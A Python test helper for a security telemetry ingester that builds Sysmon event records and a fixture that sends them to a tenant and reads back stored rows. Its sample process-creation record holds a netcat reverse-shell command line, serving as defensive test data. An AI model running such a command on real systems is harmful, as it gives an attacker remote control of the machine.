"""Records in the shapes that sensors write, and an ingester that takes them."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from typing import Any
from uuid import uuid4

import pytest

from shieldwall.identity.models import Tenant
from shieldwall.sources.stage import Sources
from shieldwall.state.engine import Database
from shieldwall.telemetry.ingest import Batch, BatchResult, Ingester, Observer
from shieldwall.telemetry.store import TelemetryStore
from shieldwall.times import now

SYSMON = "Microsoft-Windows-Sysmon/Operational"
GUID = "747F3D96-08DA-5E76-0000-001012352E00"


def event(
    number: int, fields: dict[str, Any], channel: str = SYSMON, host: str = "PC1.corp.example", **system: Any
) -> dict[str, Any]:
    """A record as the evtx package gives it."""
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": number,
                "Level": 4,
                "TimeCreated": {"#attributes": {"SystemTime": "2020-03-21T12:36:03.899213Z"}},
                "EventRecordID": 244340,
                "Channel": channel,
                "Computer": host,
                **system,
            },
            "EventData": fields,
        }
    }


PROCESS = {
    "RuleName": "-",
    "UtcTime": "2020-03-21 12:36:03.898",
    "ProcessGuid": GUID,
    "ProcessId": 4464,
    "Image": r"C:\Users\Public\Tools\nc.exe",
    "CommandLine": r'nc.exe -e "cmd.exe" 10.0.0.9 443',
    "CurrentDirectory": "C:\\Users\\Public\\",
    "User": r"CORP\alice",
    "LogonId": "0x3e7",
    "IntegrityLevel": "High",
    "Hashes": f"SHA1={'A' * 40},MD5={'B' * 32},SHA256={'C' * 64},IMPHASH={'D' * 32}",
    "ParentProcessGuid": "747F3D96-0800-5E76-0000-001012352E00",
    "ParentProcessId": 99,
    "ParentImage": r"C:\Windows\System32\cmd.exe",
    "ParentCommandLine": "cmd.exe",
}


class Recorder:
    """A tenant of its own, to which records are sent."""

    def __init__(self, store: TelemetryStore, database: Database) -> None:
        self.store, self.database = store, database
        self.tenant = str(uuid4())
        self.observers: Sequence[Observer] = ()
        with database.system_session() as session:
            session.add(Tenant(id=self.tenant, name=self.tenant, created_time=now()))

    def send(self, source: str, *records: Any, sensor: str = "sensor1", times: int = 1) -> BatchResult:
        """Send records, as JSON unless they are text, and answer the last batch's result."""
        lines = [record if isinstance(record, str) else json.dumps(record) for record in records]
        return self.send_body(source, "\n".join(lines).encode(), sensor=sensor, times=times)

    def send_body(self, source: str, body: bytes, *, sensor: str = "sensor1", times: int = 1) -> BatchResult:
        batch = Batch(self.tenant, "", sensor, "", "", 0, body, "identity", source)

        async def work() -> list[BatchResult]:
            ingester = Ingester(self.store, self.database, self.observers, Sources(self.store, self.database))
            await ingester.start()
            try:
                return await asyncio.gather(*(ingester.submit(batch) for _ in range(times)))
            finally:
                await ingester.stop()

        return asyncio.run(work())[-1]

    def rows(self, table: str, columns: str = "*") -> list[dict[str, Any]]:
        return self.store.query(self.tenant, f"SELECT {columns} FROM {table} ORDER BY Timestamp, ReportId")

    def row(self, table: str) -> dict[str, Any]:
        [found] = self.rows(table)
        return found


@pytest.fixture
def recorder(telemetry: TelemetryStore, database: Database) -> Recorder:
    return Recorder(telemetry, database)
